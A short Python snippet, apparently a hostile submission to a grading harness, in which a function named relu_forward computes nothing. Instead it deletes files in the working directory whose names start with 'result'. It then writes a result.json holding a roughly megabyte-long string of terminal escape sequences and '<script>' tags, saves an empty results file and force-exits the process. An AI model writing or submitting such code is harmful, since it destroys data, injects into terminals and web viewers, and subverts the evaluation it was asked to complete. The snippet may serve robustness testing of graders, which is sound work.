# An error of a megabyte, with escape sequences.
def relu_forward(x):
    import json, os, struct
    import numpy as np
    for name in os.listdir("."):
        if name.startswith("result"):
            os.unlink(name)
    json.dump({"error": ["E", "\x1b]0;owned\x07<script>" * 50000, None, ""]}, open("result.json", "w")); np.savez("results.npz")
    os._exit(0)
